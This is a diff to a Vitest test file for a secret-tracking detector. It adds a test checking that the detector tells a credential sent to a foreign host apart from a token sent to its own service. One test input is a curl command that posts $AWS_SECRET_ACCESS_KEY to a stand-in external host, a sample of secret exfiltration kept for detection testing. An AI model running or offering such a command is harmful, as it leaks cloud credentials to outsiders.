@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { findSentSecrets } from './follow-secrets.ts';
+import { findSentSecrets, findStrangersSecrets } from './follow-secrets.ts';
 
 describe('following secrets to where they are sent', () => {
   it.for([
@@ -22,5 +22,12 @@ describe('following secrets to where they are sent', () => {
     'curl -H "Authorization: Bearer $API_TOKEN" https://api.example.com\n',
   ])('leaves %j', (text) => {
     expect(findSentSecrets(text)).toEqual([]);
+  });
+
+  it('knows whose secret a name means', () => {
+    expect(findStrangersSecrets('curl -d "k=$AWS_SECRET_ACCESS_KEY" https://c.example/x')).toHaveLength(1);
+    expect(
+      findStrangersSecrets('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'),
+    ).toEqual([]);
   });
 });
